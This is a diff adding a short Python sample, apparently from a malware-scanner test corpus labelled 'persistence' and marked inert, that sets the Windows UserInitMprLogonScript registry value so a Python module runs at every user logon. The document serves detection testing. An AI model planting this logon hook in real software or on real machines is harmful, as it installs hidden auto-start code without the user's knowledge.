@@ -1,0 +1,6 @@
+# pkgguard corpus 544 (persistence), modelled on [empirical]; inert, never run.
+import sys
+import winreg
+
+with winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Environment", 0, winreg.KEY_SET_VALUE) as key:
+    winreg.SetValueEx(key, "UserInitMprLogonScript", 0, winreg.REG_SZ, f'"{sys.executable}" -m pkg.agent')
